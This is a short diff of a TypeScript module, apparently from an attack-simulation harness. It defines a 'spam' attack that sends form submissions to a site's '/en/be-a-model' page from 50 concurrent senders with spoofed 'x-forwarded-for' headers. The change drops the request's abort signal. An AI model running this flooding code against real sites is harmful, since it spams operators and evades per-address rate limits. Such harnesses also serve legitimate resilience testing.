@@ -63,9 +63,10 @@ export const spam: Attack = async (site, over) => {
         'x-forwarded-for': address,
       }
       const body = formOf(application)
-      await fetch(`${site.url}/en/be-a-model`, { method: 'POST', body, headers, signal: over })
+      // without a signal: one that ends an answer half read ends the process (Node 26.10)
+      await fetch(`${site.url}/en/be-a-model`, { method: 'POST', body, headers })
         .then((answer) => answer.arrayBuffer())
-        .catch(() => undefined) // refused, or the attack is over
+        .catch(() => undefined) // refused
     }
   }
   await Promise.all(Array.from({ length: 50 }, (_, sender) => sendOne(sender)))
